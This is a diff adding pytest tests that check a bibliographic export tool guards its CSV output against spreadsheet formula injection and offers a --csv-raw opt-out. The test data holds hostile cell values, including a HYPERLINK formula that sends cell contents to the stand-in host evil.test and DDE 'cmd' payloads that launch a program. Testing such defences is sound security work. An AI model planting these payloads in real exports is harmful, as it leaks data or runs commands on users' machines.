@@ -12,12 +12,19 @@ import bibtexparser
 import jsonschema
 import pytest
 import rispy
+import yaml
 from bibtexparser.middlewares import LatexDecodingMiddleware
-from sqlalchemy import Engine
+from click.testing import CliRunner
+from sqlalchemy import Engine, select
 
-from pipelines.export import FORMATS, Selection, export
+from harvester.types import PageRange, Person, Record
+from pipelines.cli_export import export_command
+from pipelines.db import make_engine, upgrade
+from pipelines.export import FORMATS, Selection, csv_table, export
 from pipelines.export.bibtex import escape
-from tests.sql_records import ALPHA, BETA, DATABASES, library_fixture
+from pipelines.load import ensure_source, upsert_records
+from pipelines.models import publications
+from tests.sql_records import ALPHA, BETA, DATABASES, LOADED_AT, library_fixture
 
 SCHEMA = json.loads((Path(__file__).parent / "fixtures/export/csl-data.json").read_text())
 TRICKY_TITLE = f"{ALPHA[0].title}: {ALPHA[0].subtitle}"
@@ -150,3 +157,103 @@ def test_every_format_module_has_the_same_shape() -> None:
     for name, module in FORMATS.items():
         assert name == module.NAME
         assert callable(module.write) and module.MEDIA_TYPE
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
+HOSTILE_PUBLISHER = "+cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize(("cell", "shown"), [
+    ("=1+2", "'=1+2"),
+    (HOSTILE_TITLE, "'" + HOSTILE_TITLE),
+    (HOSTILE_PUBLISHER, "'" + HOSTILE_PUBLISHER),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+2", "'\t=1+2"),
+    ("\r=1+2", "'\r=1+2"),
+    ("-5; =1+2", "'-5; =1+2"),
+    ("-5", "-5"),
+    ("+1.5", "+1.5"),
+    ("-.5e3", "-.5e3"),
+    ("Graphene = carbon", "Graphene = carbon"),
+    ("e0123", "e0123"),
+    ("", ""),
+    (None, None),
+    (42, 42),
+])  # fmt: skip
+def test_csv_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell: object,
+                                                               shown: object) -> None:
+    assert csv_table.neutralise(cell) == shown
+
+
+@pytest.fixture
+def hostile(db_url: str) -> Iterator[Engine]:
+    """A database of its own holding one record whose text fields are formulas."""
+    eng = make_engine(db_url)
+    upgrade(eng)
+    record = Record(url="https://repo.test/p/x1", platform="pure", source_key="x1",
+                    title=HOSTILE_TITLE, publisher=HOSTILE_PUBLISHER,
+                    pages=PageRange("-5", "+1.5"), authors=(Person("@evil"),))
+    with eng.begin() as conn:
+        source = ensure_source(conn, "alpha", "pure", "https://alpha.test", now=LOADED_AT)
+        upsert_records(conn, source, [record], now=LOADED_AT)
+    yield eng
+    eng.dispose()
+
+
+def _csv_row(engine: Engine, csv_raw: bool) -> dict[str, str]:
+    out = io.StringIO()
+    with engine.connect() as conn:
+        assert export(conn, Selection(), "csv", out, csv_raw=csv_raw) == 1
+    [row] = csv.DictReader(io.StringIO(out.getvalue()))
+    return row
+
+
+def test_csv_export_neutralises_a_hostile_title_and_the_database_keeps_it(
+        hostile: Engine) -> None:  # fmt: skip
+    row = _csv_row(hostile, csv_raw=False)
+    assert row["title"] == "'" + HOSTILE_TITLE
+    assert row["publisher"] == "'" + HOSTILE_PUBLISHER
+    assert row["authors"] == "'@evil"
+    assert (row["page_first"], row["page_last"]) == ("-5", "+1.5")
+    with hostile.connect() as conn:
+        stored = conn.execute(select(publications.c.title, publications.c.publisher)).one()
+    assert tuple(stored) == (HOSTILE_TITLE, HOSTILE_PUBLISHER)
+
+
+def test_csv_raw_export_keeps_every_cell_verbatim(hostile: Engine) -> None:
+    row = _csv_row(hostile, csv_raw=True)
+    assert (row["title"], row["publisher"], row["authors"]) == (
+        HOSTILE_TITLE, HOSTILE_PUBLISHER, "@evil")  # fmt: skip
+
+
+def test_csv_raw_is_refused_for_other_formats(hostile: Engine) -> None:
+    with hostile.connect() as conn, pytest.raises(ValueError, match="csv"):
+        export(conn, Selection(), "ris", io.StringIO(), csv_raw=True)
+
+
+@pytest.mark.parametrize(("flags", "title"), [
+    ([], "'" + HOSTILE_TITLE),
+    (["--csv-raw"], HOSTILE_TITLE),
+])  # fmt: skip
+def test_cli_csv_export_quotes_formulas_unless_csv_raw(
+        hostile: Engine, tmp_path: Path, flags: list[str], title: str) -> None:  # fmt: skip
+    config = tmp_path / "config.yaml"
+    url = hostile.url.render_as_string(hide_password=False)
+    config.write_text(yaml.safe_dump({"database": url, "sources": []}))
+    out = tmp_path / "out.csv"
+    result = CliRunner().invoke(export_command, [
+        "--config", str(config), "--format", "csv", *flags, "--output", str(out)])  # fmt: skip
+    assert result.exit_code == 0, result.output
+    [row] = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
+    assert row["title"] == title
+
+
+def test_cli_csv_raw_with_another_format_is_a_usage_error(sqlite_url: str,
+                                                           tmp_path: Path) -> None:
+    config = tmp_path / "config.yaml"
+    config.write_text(yaml.safe_dump({"database": sqlite_url, "sources": []}))
+    result = CliRunner().invoke(export_command, [
+        "--config", str(config), "--format", "bibtex", "--csv-raw"])  # fmt: skip
+    assert result.exit_code == 2
+    assert "--csv-raw" in result.output
